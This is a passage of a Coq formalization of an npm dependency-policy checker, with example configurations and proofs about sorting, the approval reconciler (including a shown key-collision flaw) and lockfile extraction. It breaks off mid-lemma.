    [main]: [package-policy.yml] is written when it does not exist. *)
Definition initRepo (dir : string) : HM unit := λ h,
  match repos h !! dir with
  | Some rf =>
      match rf_policyYml rf with
      | Some _ => (Ok tt, h)
      | None =>
          if rf_writable rf then
            (Ok tt,
             withRepos (<[dir := withPolicyYml (Yaml (Some (defaultDoc parseDuration))) rf]>
                          (repos h)) h)
          else (Throw "EACCES", h)
      end
  | None => (Throw "ENOENT", h)            (* writeFile into a missing directory *)
  end.

(** [JSON.parse(await fs.readFile(packageJson, 'utf8'))], as far as
    [json.engines?.node]. *)
Definition readEnginesNode (dir : string) : HM (option string) := λ h,
  match rf_packageJson (filesOf h dir) with
  | NoPackageJson => (Throw "ENOENT", h)
  | BadPackageJson => (Throw "Unexpected token in JSON", h)
  | PackageJson enginesNode => (Ok enginesNode, h)
  end.

(** The body of [for (const dir of program.args.map(...))] when [--init]
    is not given. *)
Definition inspectRepo (dir : string) : HM unit :=
  config ← getConfigAt dir;
  enginesNode ← readEnginesNode dir;
  let check :=
    opt_checkNodeVersion opts
    || negb (bool_decide (checkNodeVersionSetting config = Some false)) in
  (match enginesNode return HM unit with
   | Some node =>
       if check && truthy node then
         checkNodeVersion node;; mret tt         (* the problems are only printed *)
       else mret tt
   | None => mret tt
   end);;
  processRepoAt dir.

(** The body of [for (const dir of program.args.map(...))]. *)
Definition checkRepo (dir : string) : HM unit :=
  if opt_init opts then initRepo dir else inspectRepo dir.

(** The check of the running Node.js, at the head of [main]. *)
Definition checkCurrentNode : HM unit :=
  if opt_checkNodeVersion opts then
    currentNodeProblems ← checkNodeVersion (versions_node opts);
    match currentNodeProblems with
    | [] => mret tt
    | _ :: _ => exitProcess 2%Z
    end
  else mret tt.

(** [main]; [dirs] is [program.args], resolved.  [program.help()] prints
    the help and ends the process with code [0]. *)
Definition main (dirs : list string) : HM unit :=
  (match dirs with
   | [] => exitProcess 0%Z
   | _ :: _ => mret tt
   end);;
  checkCurrentNode;;
  forEach checkRepo dirs.
End main.

(** How many of the requests [more] ask for the advisory index. *)
Definition advisoryRequests (more : list string) : nat :=
  length (filter (λ url, url = advisoriesUrl) more).

(** A computation that asks for the advisory index only while
    [nodeAdvisories] is empty, at most once, and that keeps the index it
    got. *)
Definition asksIndexOnce {A : Type} (m : HM A) : Prop :=
  ∀ h r h', m h = (r, h') →
    ∃ more,
      requests h' = requests h ++ more
      ∧ advisoryRequests more ≤ match nodeAdvisories h with Some _ => 0 | None => 1 end
      ∧ (is_Some (nodeAdvisories h) ∨ (advisoryRequests more = 1 ∧ ∃ a, r = Ok a) →
         is_Some (nodeAdvisories h')).

(** A computation that ends the process only with a code of [codes]. *)
Definition exitsOnly {A : Type} (codes : Z → Prop) (m : HM A) : Prop :=
  ∀ h code h', m h = (Exit code, h') → codes code.

(** ** Stand-ins for library functions, for the examples

    The theorems hold for every [satisfies], [basename] and [getTime], and
    for whatever the prototypes hold; the examples need concrete ones. *)

(** The separator [/]. *)
Definition slash : Ascii.ascii := Ascii.ascii_of_nat 47.

Fixpoint dropSlashes (cs : list Ascii.ascii) : list Ascii.ascii :=
  match cs with
  | c :: cs' => if Ascii.eqb c slash then dropSlashes cs' else cs
  | [] => []
  end.

Fixpoint upToSlash (cs : list Ascii.ascii) : list Ascii.ascii :=
  match cs with
  | c :: cs' => if Ascii.eqb c slash then [] else c :: upToSlash cs'
  | [] => []
  end.

(** [path.basename] on POSIX paths: trailing separators are dropped, what
    follows the last remaining separator is returned. *)
Definition basename_posix (path : string) : string :=
  String.string_of_list_ascii
    (rev (upToSlash (dropSlashes (rev (String.list_ascii_of_string path))))).

(** Agrees with [semver.satisfies] where the examples use it: the range
    ["*"] accepts every well-formed version, and an exact version accepts
    itself. *)
Definition satisfies_example (version range : string) : bool :=
  String.eqb range "*" || String.eqb version range.

(** No date is read in the examples. *)
Definition getTime_example (s : string) : option Z := None.

(** The properties of [Object.prototype]. *)
Definition objectPrototype : list string :=
  ["constructor"; "__defineGetter__"; "__defineSetter__"; "hasOwnProperty";
   "__lookupGetter__"; "__lookupSetter__"; "isPrototypeOf"; "propertyIsEnumerable";
   "toString"; "valueOf"; "__proto__"; "toLocaleString"].

(** The methods of [Array.prototype], as of ECMAScript 2022. *)
Definition arrayPrototype : list string :=
  ["at"; "concat"; "copyWithin"; "fill"; "find"; "findIndex"; "findLast";
   "findLastIndex"; "lastIndexOf"; "pop"; "push"; "reverse"; "shift"; "unshift";
   "slice"; "sort"; "splice"; "includes"; "indexOf"; "join"; "keys"; "entries";
   "values"; "forEach"; "filter"; "flat"; "flatMap"; "map"; "every"; "some";
   "reduce"; "reduceRight"; "toLocaleString"; "toString"].

(** What a built-in method prints as; it converts to [NaN]. *)
Definition nativeFunction (name : string) : Inherited :=
  {| toNumber := None;
     toText := "function " +:+ name +:+ "() { [native code] }" |}.

(** What the objects of Node.js inherit.  [__proto__] reads as the
    prototype: [Object.prototype] prints as [[object Object]] and converts
    to [NaN]; [Array.prototype] is an empty array, prints as the empty
    string and converts to [0]. *)
Definition prototypes_example (kind : ObjectKind) (name : string) : option Inherited :=
  match kind with
  | PlainObject =>
      if String.eqb name "__proto__"
      then Some {| toNumber := None; toText := "[object Object]" |}
      else if String.eqb name "constructor" then Some (nativeFunction "Object")
      else if bool_decide (name ∈ objectPrototype) then Some (nativeFunction name)
      else None
  | ArrayObject =>
      if String.eqb name "__proto__"
      then Some {| toNumber := Some 0%Z; toText := "" |}
      else if String.eqb name "constructor" then Some (nativeFunction "Array")
      else if bool_decide (name ∈ arrayPrototype ++ objectPrototype)
      then Some (nativeFunction name)
      else None
  end.

Definition emptyConfig : Config :=
  {| c_minPackageAge := None;
     c_minWeeklyDownloads := None;
     c_licenses := [];
     c_blacklist := ∅;
     c_ignore := ∅ |}.

Definition plainSpec (version : string) : PackageSpec :=
  {| s_name := None; s_version := version; s_license := None;
     s_link := false; s_optional := false |}.

Definition npmDir (packages : list (string * PackageSpec)) : RepoDir :=
  {| dir_path := "."; packageLockJson := Some packages;
     yarnLock := false; pnpmLock := false |}.

Definition emptyWorld : World :=
  {| registryCacheFiles := ∅;
     packageDownloadsJson := None;
     packagePolicyLock := None;
     fetched := [];
     prompts := 0 |}.

(** Every request rejects; caching is on, the run is interactive and the
    user answers [y]. *)
Definition offlineEnv : Env :=
  {| opt_cache := true;
     opt_ci := false;
     net := λ _ _, NetworkError;
     cacheDirWritable := true;
     policyLockWritable := true;
     nodeModules := ∅;
     now := 0;
     answer := λ _, Some "y";
     inherited := prototypes_example |}.

(** [offlineEnv] with another answer to the prompt. *)
Definition answering (reply : string) : Env :=
  {| opt_cache := true;
     opt_ci := false;
     net := λ _ _, NetworkError;
     cacheDirWritable := true;
     policyLockWritable := true;
     nodeModules := ∅;
     now := 0;
     answer := λ _, Some reply;
     inherited := prototypes_example |}.

(** The cached registry record of [left-pad], with an install script. *)
Definition leftPadRecord : RegistryCacheRecord :=
  {| rc_version := 1;
     rc_time := {[ "1.3.0" := "2018-04-09T01:11:37.210Z" ]};
     rc_versions :=
       {[ "1.3.0" := {| vm_license := Some "WTFPL";
                        vm_scripts := Some [("postinstall", "node setup.js")] |} ]} |}.

Definition leftPadWorld : World :=
  {| registryCacheFiles := {[ "left-pad" := StoredRecord leftPadRecord ]};
     packageDownloadsJson := Some (DownloadsJson {[ "left-pad" := 3%Z ]});
     packagePolicyLock := None;
     fetched := [];
     prompts := 0 |}.

Definition leftPadDir : RepoDir :=
  npmDir [("", plainSpec "0.0.1"); ("node_modules/left-pad", plainSpec "1.3.0")].

(** The default threshold of [defaultConfig]. *)
Definition thresholdConfig : Config :=
  {| c_minPackageAge := None;
     c_minWeeklyDownloads := Some 100%Z;
     c_licenses := [];
     c_blacklist := ∅;
     c_ignore := ∅ |}.

Definition lodashBlocked : Config :=
  {| c_minPackageAge := None;
     c_minWeeklyDownloads := None;
     c_licenses := [];
     c_blacklist := {[ "lodash" := "*" ]};
     c_ignore := {[ "lodash" := "*" ]} |}.

Definition leftPadDep : Dependency :=
  {| d_name := "left-pad"; d_path := "node_modules/left-pad";
     d_version := "1.3.0"; d_license := None |}.

(** The loop state with the popularity cache of [leftPadWorld] loaded. *)
Definition leftPadCollected : Collected :=
  {| warnings := [];
     packageDownloadCache := {| kind := PlainObject; own := {[ "left-pad" := 3%Z ]} |};
     checkedPackageDownloads := ∅ |}.

(** A workspace link that nevertheless carries a version. *)
Definition linkedLodash : PackageSpec :=
  {| s_name := None; s_version := "4.17.21"; s_license := None;
     s_link := true; s_optional := false |}.

Definition optionalFsevents : PackageSpec :=
  {| s_name := None; s_version := "2.3.3"; s_license := None;
     s_link := false; s_optional := true |}.

Definition namedSpec (name version : string) : PackageSpec :=
  {| s_name := Some name; s_version := version; s_license := None;
     s_link := false; s_optional := false |}.

(** The package [a@b] is blocked. *)
Definition scopedBlocked : Config :=
  {| c_minPackageAge := None;
     c_minWeeklyDownloads := None;
     c_licenses := [];
     c_blacklist := {[ "a@b" := "*" ]};
     c_ignore := ∅ |}.

(** Two install paths of [foo@1.0.0] and one of [bar@2.0.0]. *)
Definition fooBarDir : RepoDir :=
  npmDir [("", plainSpec "0.0.1");
          ("node_modules/foo", plainSpec "1.0.0");
          ("node_modules/bar", plainSpec "2.0.0");
          ("node_modules/bar/node_modules/foo", plainSpec "1.0.0")].

Definition fooBarDeps : list Dependency :=
  [ {| d_name := "bar"; d_path := "node_modules/bar";
       d_version := "2.0.0"; d_license := None |};
    {| d_name := "foo"; d_path := "node_modules/foo";
       d_version := "1.0.0"; d_license := None |} ].

(** The cached record of [left-pad] as [part_002] writes it. *)
Definition leftPadKeys : RegistryCacheKeys :=
  {| rk_version := 1;
     rk_time := {[ "1.3.0" := "2018-04-09T01:11:37.210Z" ]};
     rk_versions := ["1.2.0"; "1.3.0"] |}.

Definition leftPadKeysWorld : World :=
  {| registryCacheFiles := {[ "left-pad" := StoredKeys leftPadKeys ]};
     packageDownloadsJson := None;
     packagePolicyLock := None;
     fetched := [];
     prompts := 0 |}.

(** [fsevents] is blocked. *)
Definition fseventsBlocked : Config :=
  {| c_minPackageAge := None;
     c_minWeeklyDownloads := None;
     c_licenses := [];
     c_blacklist := {[ "fsevents" := "*" ]};
     c_ignore := ∅ |}.

(** What the registry answers about [left-pad]. *)
Definition leftPadJson : Json :=
  {| j_versions :=
       Some {[ "1.3.0" := {| vm_license := Some "WTFPL";
                             vm_scripts := Some [("postinstall", "node setup.js")] |} ]};
     j_time := Some {[ "1.3.0" := "2018-04-09T01:11:37.210Z" ]};
     j_downloads := None |}.

(** The registry is reachable and knows [left-pad]; every other request
    rejects. *)
Definition registryEnv : Env :=
  {| opt_cache := true;
     opt_ci := false;
     net := λ _ url,
       if String.eqb url "https://registry.npmjs.org/left-pad"
       then Http true (Some leftPadJson) else NetworkError;
     cacheDirWritable := true;
     policyLockWritable := true;
     nodeModules := ∅;
     now := 0;
     answer := λ _, Some "y";
     inherited := prototypes_example |}.

(** ** Further examples *)

(** [offlineEnv] without [--cache]. *)
Definition noCacheEnv : Env :=
  {| opt_cache := false;
     opt_ci := false;
     net := λ _ _, NetworkError;
     cacheDirWritable := true;
     policyLockWritable := true;
     nodeModules := ∅;
     now := 0;
     answer := λ _, Some "y";
     inherited := prototypes_example |}.

(** [offlineEnv] with a cache directory that cannot be written. *)
Definition readOnlyEnv : Env :=
  {| opt_cache := true;
     opt_ci := false;
     net := λ _ _, NetworkError;
     cacheDirWritable := false;
     policyLockWritable := true;
     nodeModules := ∅;
     now := 0;
     answer := λ _, Some "y";
     inherited := prototypes_example |}.

(** A directory managed with yarn. *)
Definition yarnDir : RepoDir :=
  {| dir_path := "."; packageLockJson := None; yarnLock := true; pnpmLock := false |}.

(** [lodash] is ignored. *)
Definition lodashIgnored : Config :=
  {| c_minPackageAge := None;
     c_minWeeklyDownloads := None;
     c_licenses := [];
     c_blacklist := ∅;
     c_ignore := {[ "lodash" := "*" ]} |}.

Definition lodashAndFooDir : RepoDir :=
  npmDir [("", plainSpec "0.0.1");
          ("node_modules/lodash", plainSpec "4.17.21");
          ("node_modules/foo", plainSpec "1.0.0")].

Definition fooDep : Dependency :=
  {| d_name := "foo"; d_path := "node_modules/foo";
     d_version := "1.0.0"; d_license := None |}.

(** [leftPadWorld] with an approval record of version [2]. *)
Definition futureLockWorld : World :=
  {| registryCacheFiles := {[ "left-pad" := StoredRecord leftPadRecord ]};
     packageDownloadsJson := Some (DownloadsJson {[ "left-pad" := 3%Z ]});
     packagePolicyLock :=
       Some (PolicyLockYaml
               {| pl_version := 2;
                  pl_packages := [ {| a_package := "left-pad@1.3.0";
                                      a_type := script;
                                      a_cacheKey := "postinstall: node setup.js" |} ] |});
     fetched := [];
     prompts := 0 |}.

(** Agrees with [semver.intersects] where the examples use it: two exact
    versions intersect when they are the same, and [latest], which is a tag
    and no range, makes it throw. *)
Definition intersects_example (range1 range2 : string) : option bool :=
  if String.eqb range1 "latest" || String.eqb range2 "latest" then None
  else Some (String.eqb range1 range2).

(** Agrees with [parseDuration] on the default age, two days. *)
Definition parseDuration_example (text : string) : option Z :=
  if String.eqb text "2d" then Some 172800000%Z else None.

Definition exampleAdvisory : Advisory :=
  {| adv_cve := ["CVE-2023-30581"];
     adv_vulnerable := "18.0.0";
     adv_patched := "18.0.1";
     adv_overview := None |}.

(** A directory with [left-pad] installed and no configuration. *)
Definition exampleRepo : RepoFiles :=
  {| rf_policyYml := None;
     rf_policyYaml := None;
     rf_packageJson := PackageJson (Some "18.0.1");
     rf_packageLock :=
       Some [("", plainSpec "0.0.1"); ("node_modules/left-pad", plainSpec "1.3.0")];
     rf_yarnLock := false;
     rf_pnpmLock := false;
     rf_policyLock := None;
     rf_nodeModules := ∅;
     rf_writable := true |}.

(** [exampleRepo] without its [package.json]. *)
Definition bareRepo : RepoFiles :=
  {| rf_policyYml := None;
     rf_policyYaml := None;
     rf_packageJson := NoPackageJson;
     rf_packageLock :=
       Some [("", plainSpec "0.0.1"); ("node_modules/left-pad", plainSpec "1.3.0")];
     rf_yarnLock := false;
     rf_pnpmLock := false;
     rf_policyLock := None;
     rf_nodeModules := ∅;
     rf_writable := true |}.

(** A process at its start: nothing requested, [nodeAdvisories] empty. *)
Definition exampleHost : Host :=
  {| repos := {[ "/repo" := exampleRepo; "/bare" := bareRepo ]};
     homeYml := None;
     homeYaml := None;
     cacheRecords := {[ "left-pad" := StoredRecord leftPadRecord ]};
     cacheCounts := Some (DownloadsJson {[ "left-pad" := 3%Z ]});
     requests := [];
     asked := 0;
     nodeAdvisories := None |}.

(** [exampleHost] once the advisory index is there. *)
Definition informedHost : Host :=
  {| repos := {[ "/repo" := exampleRepo; "/bare" := bareRepo ]};
     homeYml := None;
     homeYaml := None;
     cacheRecords := {[ "left-pad" := StoredRecord leftPadRecord ]};
     cacheCounts := Some (DownloadsJson {[ "left-pad" := 3%Z ]});
     requests := [advisoriesUrl];
     asked := 0;
     nodeAdvisories := Some [exampleAdvisory] |}.

(** The options of a run on Node.js [nodeVersion]; the advisory index is
    served, every other request rejects. *)
Definition exampleOptions (init : bool) (nodeVersion : string) : Options :=
  {| run_env := offlineEnv;
     opt_checkNodeVersion := true;
     opt_init := init;
     versions_node := nodeVersion;
     advisoryFeed := λ _, AdvisoryHttp true (Some [exampleAdvisory]) |}.

(** [offlineEnv] where [package-policy.lock] cannot be written. *)
Definition lockedEnv : Env :=
  {| opt_cache := true;
     opt_ci := false;
     net := λ _ _, NetworkError;
     cacheDirWritable := true;
     policyLockWritable := false;
     nodeModules := ∅;
     now := 0;
     answer := λ _, Some "y";
     inherited := prototypes_example |}.

(** [offlineEnv] with the input closed: the prompt fails. *)
Definition closedInputEnv : Env :=
  {| opt_cache := true;
     opt_ci := false;
     net := λ _ _, NetworkError;
     cacheDirWritable := true;
     policyLockWritable := true;
     nodeModules := ∅;
     now := 0;
     answer := λ _, None;
     inherited := prototypes_example |}.

(** The downloads API is reachable and reports [5] downloads last week for
    [constructor] and for [left-pad]; every other request rejects. *)
Definition downloadsEnv : Env :=
  {| opt_cache := true;
     opt_ci := false;
     net := λ _ url,
       if String.eqb url "https://api.npmjs.org/downloads/point/last-week/constructor"
          || String.eqb url "https://api.npmjs.org/downloads/point/last-week/left-pad"
       then Http true (Some {| j_versions := None; j_time := None;
                               j_downloads := Some 5%Z |})
       else NetworkError;
     cacheDirWritable := true;
     policyLockWritable := true;
     nodeModules := ∅;
     now := 0;
     answer := λ _, Some "y";
     inherited := prototypes_example |}.

(** The package [constructor], installed. *)
Definition constructorDep : Dependency :=
  {| d_name := "constructor"; d_path := "node_modules/constructor";
     d_version := "1.0.0"; d_license := None |}.

Definition constructorDir : RepoDir :=
  npmDir [("", plainSpec "0.0.1"); ("node_modules/constructor", plainSpec "1.0.0")].

(** The loop state at the start of a run with no [package-downloads.json]. *)
Definition emptyCollected : Collected :=
  {| warnings := []; packageDownloadCache := emptyObject; checkedPackageDownloads := ∅ |}.

(** [leftPadWorld] with a [package-policy.lock] that is not YAML. *)
Definition unparsableLockWorld : World :=
  {| registryCacheFiles := {[ "left-pad" := StoredRecord leftPadRecord ]};
     packageDownloadsJson := Some (DownloadsJson {[ "left-pad" := 3%Z ]});
     packagePolicyLock := Some BadPolicyLock;
     fetched := [];
     prompts := 0 |}.

(** An advisory whose patched range is the tag [latest]. *)
Definition taggedAdvisory : Advisory :=
  {| adv_cve := ["CVE-2023-30581"];
     adv_vulnerable := "18.0.0";
     adv_patched := "latest";
     adv_overview := None |}.

(** [informedHost] with [taggedAdvisory] in the index. *)
Definition taggedHost : Host :=
  {| repos := {[ "/repo" := exampleRepo; "/bare" := bareRepo ]};
     homeYml := None;
     homeYaml := None;
     cacheRecords := {[ "left-pad" := StoredRecord leftPadRecord ]};
     cacheCounts := Some (DownloadsJson {[ "left-pad" := 3%Z ]});
     requests := [advisoriesUrl];
     asked := 0;
     nodeAdvisories := Some [taggedAdvisory] |}.

(** * Properties *)

(** ** Sorting *)

Lemma js_lt_false_le a b : js_lt a b = false → String.le b a.
Proof.
  unfold js_lt, String.ltb, String.le, String.leb.
  rewrite (String.compare_antisym b a).
  destruct (String.compare a b); simpl; intros; done.
Qed.

Lemma js_lt_true_le a b : js_lt a b = true → String.le a b.
Proof.
  unfold js_lt, String.ltb, String.le, String.leb.
  destruct (String.compare a b); simpl; intros; done.
Qed.

Section sort_by_key.
Context {A : Type} (k : A → string).

Lemma compareBy_nonpos a b : (compareBy k a b <=? 0)%Z = true → le_by k a b.
Proof.
  unfold compareBy, le_by.
  destruct (js_lt (k a) (k b)) eqn:Hab.
  - intros _. by apply js_lt_true_le.
  - destruct (js_lt (k b) (k a)) eqn:Hba; [done|].
    intros _. by apply js_lt_false_le.
Qed.

Lemma compareBy_pos a b : (compareBy k a b <=? 0)%Z = false → le_by k b a.
Proof.
  unfold compareBy, le_by.
  destruct (js_lt (k a) (k b)) eqn:Hab; [done|].
  intros _. by apply js_lt_false_le.
Qed.

Lemma sort_insert_perm x l : sort_insert (compareBy k) x l ≡ₚ x :: l.
Proof.
  induction l as [|y l IH]; simpl; [done|].
  destruct (compareBy k x y <=? 0)%Z; [done|].
  rewrite IH. apply Permutation_swap.
Qed.

Lemma js_sort_perm l : js_sort (compareBy k) l ≡ₚ l.
Proof.
  induction l as [|x l IH]; simpl; [done|].
  by rewrite sort_insert_perm, IH.
Qed.

Lemma sort_insert_sorted x l :
  StronglySorted (le_by k) l → StronglySorted (le_by k) (sort_insert (compareBy k) x l).
Proof.
  induction l as [|y l IH]; simpl; intros Hs.
  - repeat constructor.
  - apply StronglySorted_inv in Hs as [Hl Hy].
    destruct (compareBy k x y <=? 0)%Z eqn:Hc.
    + constructor; [by constructor|].
      apply compareBy_nonpos in Hc.
      constructor; [done|].
      eapply Forall_impl; [exact Hy|].
      intros z Hz. unfold le_by in *. by etrans.
    + constructor; [by apply IH|].
      apply compareBy_pos in Hc.
      rewrite sort_insert_perm. by constructor.
Qed.

Lemma js_sort_sorted l : StronglySorted (le_by k) (js_sort (compareBy k) l).
Proof.
  induction l as [|x l IH]; simpl; [constructor|].
  by apply sort_insert_sorted.
Qed.
End sort_by_key.

(** ** The approval reconciler *)

Lemma refill_is_map (ws : list Warning) (acc : list Approval) :
  foldl (λ acc problem, acc ++ [approvalOf problem]) acc ws = acc ++ map approvalOf ws.
Proof.
  revert acc. induction ws as [|w ws IH]; intros acc; simpl.
  - by rewrite app_nil_r.
  - rewrite IH. by rewrite <- app_assoc.
Qed.

Lemma r_cacheData_reconcile (R : list Approval) (W : list Warning) :
  r_cacheData (reconcile R W) = js_sort (compareBy a_package) (map approvalOf W).
Proof. unfold reconcile. simpl. by rewrite refill_is_map. Qed.

Lemma r_warnings_reconcile (R : list Approval) (W : list Warning) :
  r_warnings (reconcile R W) = List.filter (λ w, negb (previouslyApproved R w)) W.
Proof. reflexivity. Qed.

Lemma cacheIndex_fold_lookup (R : list Approval) (idx : gmap string Approval) (k : string) :
  is_Some (foldl (λ cacheIndex c, <[approvalIndexKey c := c]> cacheIndex) idx R !! k)
  ↔ is_Some (idx !! k) ∨ ∃ c, c ∈ R ∧ approvalIndexKey c = k.
Proof.
  revert idx. induction R as [|c R IH]; intros idx; simpl.
  - split; [by left|]. intros [?|(c & Hc & _)]; [done|]. by apply elem_of_nil in Hc.
  - rewrite IH. split.
    + intros [Hin|(c' & Hc' & Hk)].
      * destruct (decide (approvalIndexKey c = k)) as [Heq|Hne].
        -- right. exists c. split; [left|done].
        -- left. by rewrite lookup_insert_ne in Hin.
      * right. exists c'. split; [by right|done].
    + intros [Hin|(c' & Hc' & Hk)].
      * left. destruct (decide (approvalIndexKey c = k)) as [Heq|Hne].
        -- subst k. rewrite lookup_insert_eq. by eexists.
        -- by rewrite lookup_insert_ne.
      * apply elem_of_cons in Hc' as [->|Hc'].
        -- left. subst k. rewrite lookup_insert_eq. by eexists.
        -- right. by exists c'.
Qed.

(** What the filter really tests: equality of the concatenated keys. *)
Lemma previouslyApproved_iff_key (R : list Approval) (w : Warning) :
  previouslyApproved R w = true
  ↔ ∃ c, c ∈ R ∧ approvalIndexKey c = warningIndexKey w.
Proof.
  unfold previouslyApproved, cacheIndex_has, buildCacheIndex.
  rewrite bool_decide_eq_true, cacheIndex_fold_lookup.
  split.
  - intros [Hempty|H]; [|done]. rewrite lookup_empty in Hempty. by destruct Hempty.
  - intros H. by right.
Qed.

(** Equal triples are always identified. *)
Lemma previouslyApproved_triple (R : list Approval) (w : Warning) :
  approvalOf w ∈ R → previouslyApproved R w = true.
Proof.
  intros Hin. apply previouslyApproved_iff_key. exists (approvalOf w). by split.
Qed.

(** X3.  The identity the filter uses: a warning is dropped as previously
    approved exactly when an entry of the prior record has the same
    concatenation of package, cacheKey and type; an entry with the warning's
    own triple always does. *)
Theorem approval_is_by_concatenated_key (R : list Approval) (w : Warning) :
  (previouslyApproved R w = true
   ↔ ∃ c, c ∈ R
        ∧ a_package c +:+ a_cacheKey c +:+ type_string (a_type c)
          = w_package w +:+ w_cacheKey w +:+ type_string (w_type w))
  ∧ (approvalOf w ∈ R → previouslyApproved R w = true)
  ∧ r_warnings (reconcile R [w]) = if previouslyApproved R w then [] else [w].
Proof.
  split; [apply previouslyApproved_iff_key|].
  split; [apply previouslyApproved_triple|].
  rewrite r_warnings_reconcile. simpl. by destruct (previouslyApproved R w).
Qed.

(** X4.  Approving the rebuilt record leaves nothing to approve on a second run
    over the same warnings. *)
Lemma rerun_is_clean (R : list Approval) (W : list Warning) :
  r_warnings (reconcile (r_cacheData (reconcile R W)) W) = [].
Proof.
  rewrite r_warnings_reconcile.
  assert (Hall : ∀ w, w ∈ W → previouslyApproved (r_cacheData (reconcile R W)) w = true).
  { intros w Hin. apply previouslyApproved_triple.
    rewrite r_cacheData_reconcile, js_sort_perm. by apply list_elem_of_fmap_2. }
  revert Hall. generalize (r_cacheData (reconcile R W)). intros rebuilt.
  induction W as [|w W' IH]; intros Hall; [done|].
  simpl. rewrite Hall by left. simpl. apply IH. intros w' Hin. apply Hall. by right.
Qed.

(** C1, at the failing input.  The prior record approves
    [foo@1.0.0-rc] with the license [1MIT]; the new warning is about
    [foo@1.0.0-rc1] with the license [MIT].  The triples differ, but both
    concatenate to ["foo@1.0.0-rc1MITlicense"], so the filter takes the new
    warning for an approved one and no warning is left to approve. *)
Theorem reconcile_confuses_distinct_triples :
  let prior :=
    [ {| a_package := "foo@1.0.0-rc"; a_type := license; a_cacheKey := "1MIT" |} ] in
  let problem :=
    {| w_package := "foo@1.0.0-rc1";
       w_message := "has license MIT which is not in the whitelist";
       w_type := license;
       w_cacheKey := "MIT" |} in
  (approvalOf problem ∉ prior)
  ∧ previouslyApproved prior problem = true
  ∧ r_warnings (reconcile prior [problem]) = [].
Proof.
  simpl. split; [|split].
  - intros Hin. apply list_elem_of_singleton in Hin. discriminate Hin.
  - by vm_compute.
  - by vm_compute.
Qed.

(** C2.  Whatever the prior record [R] holds, the rebuilt record consists
    of exactly the triples ([package], [type], [cacheKey]) of the collected
    warnings [W], each as often as [W] has it, sorted ascending by
    [package]; an entry of [R] whose triple is that of no warning of [W] is
    not in it, and the record does not depend on [R] at all. *)
Theorem reconcile_rebuilds_from_warnings (R : list Approval) (W : list Warning) :
  let rebuilt := r_cacheData (reconcile R W) in
  map (λ e, (a_package e, a_type e, a_cacheKey e)) rebuilt
    ≡ₚ map (λ w, (w_package w, w_type w, w_cacheKey w)) W
  ∧ StronglySorted (le_by a_package) rebuilt
  ∧ (∀ e, e ∈ rebuilt ↔
          ∃ w, w ∈ W
               ∧ a_package e = w_package w
               ∧ a_type e = w_type w
               ∧ a_cacheKey e = w_cacheKey w)
  ∧ (∀ e, e ∈ R →
       (∀ w, w ∈ W →
          ¬ (a_package e = w_package w
             ∧ a_type e = w_type w
             ∧ a_cacheKey e = w_cacheKey w)) →
       e ∉ rebuilt)
  ∧ rebuilt = r_cacheData (reconcile [] W).
Proof.
  cbv zeta. rewrite !r_cacheData_reconcile.
  assert (Hperm : js_sort (compareBy a_package) (map approvalOf W) ≡ₚ map approvalOf W)
    by apply js_sort_perm.
  assert (Hin : ∀ e, e ∈ js_sort (compareBy a_package) (map approvalOf W) ↔
                     ∃ w, w ∈ W
                          ∧ a_package e = w_package w
                          ∧ a_type e = w_type w
                          ∧ a_cacheKey e = w_cacheKey w).
  { intros e. rewrite Hperm, list_elem_of_fmap. split.
    - intros (w & -> & Hw). by exists w.
    - intros (w & Hw & Hp & Ht & Hk). exists w. split; [|done].
      destruct e as [p ty k]. simpl in Hp, Ht, Hk. by subst. }
  split.
  { rewrite Hperm, map_map. done. }
  split; [apply js_sort_sorted|]. split; [exact Hin|]. split; [|done].
  intros e _ Hnone [w [Hw Htriple]]%Hin. by apply (Hnone w).
Qed.

(** ** The dependency extractor *)

Lemma deps_lookup_None (deps : list (string * Dependency)) (k : string) :
  deps_lookup deps k = None ↔ k ∉ deps.*1.
Proof.
  induction deps as [|[k' d] deps IH]; simpl.
  - split; [|done]. intros _ Hin. by apply elem_of_nil in Hin.
  - destruct (String.eqb_spec k' k) as [->|Hne].
    + split; [done|]. intros Hnot. exfalso. apply Hnot. left.
    + rewrite IH, not_elem_of_cons. split; [by split|by intros [_ ?]].
Qed.

Lemma deps_lookup_None_inv (deps : list (string * Dependency)) (k : string) :
  k ∉ deps.*1 → deps_lookup deps k = None.
Proof. apply deps_lookup_None. Qed.

Section extractor_props.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable rev : IndexRevision.
Variable config : Config.

Local Abbreviation loop := (lockfileLoop satisfies basename rev config).
Local Abbreviation keyOf := (nameWithVersionOf basename).
Local Abbreviation nameOf := (packageNameOf basename).
Local Abbreviation skipped := (skippedEntry rev).
Local Abbreviation ignored := (ignoredEntry satisfies basename config).
Local Abbreviation blacklisted := (blacklistedEntry satisfies basename config).
Local Abbreviation depOf := (dependencyOf basename).

(** One turn of the loop, by cases. *)
Lemma loop_skipped p s entries deps :
  skipped p s = true → loop ((p, s) :: entries) deps = loop entries deps.
Proof.
  unfold skippedEntry. simpl.
  destruct (String.eqb p ""); [done|].
  destruct (s_link s); [done|].
  destruct (skipsOptional rev && s_optional s); [done|]. done.
Qed.

Lemma loop_unskipped p s entries deps :
  skipped p s = false →
  loop ((p, s) :: entries) deps =
    match deps_lookup deps (keyOf p s) with
    | Some _ => loop entries deps
    | None =>
        match matchingRange satisfies (c_blacklist config) (nameOf p s) (s_version s) with
        | Some blacklistVersion =>
            Throw ("Blacklisted version " +:+ nameOf p s +:+ "@" +:+ s_version s
                     +:+ " (" +:+ blacklistVersion +:+ ")")
        | None =>
            if ignored p s then loop entries deps
            else loop entries (deps ++ [(keyOf p s, depOf p s)])
        end
    end.
Proof.
  unfold skippedEntry, ignoredEntry. simpl.
  destruct (String.eqb p ""); [done|].
  destruct (s_link s); [done|].
  destruct (skipsOptional rev && s_optional s); [done|]. intros _.
  destruct (deps_lookup deps (keyOf p s)); [done|].
  destruct (matchingRange satisfies (c_blacklist config) _ _); [done|].
  destruct (matchingRange satisfies (c_ignore config) _ _) eqn:Hig.
  - rewrite bool_decide_eq_true_2; [done|by eexists].
  - rewrite bool_decide_eq_false_2; [done|]. by intros [? ?].
Qed.

(** What a completed loop has added to [deps]. *)
Lemma loop_Ok entries deps out :
  loop entries deps = Ok out →
  ∃ added,
    out = deps ++ added
    ∧ (NoDup deps.*1 → NoDup out.*1)
    ∧ ∀ k d, (k, d) ∈ added →
        (k ∉ deps.*1)
        ∧ ∃ l1 p s l2,
            entries = l1 ++ (p, s) :: l2
            ∧ k = keyOf p s
            ∧ d = depOf p s
            ∧ skipped p s = false
            ∧ blacklisted p s = false
            ∧ ignored p s = false
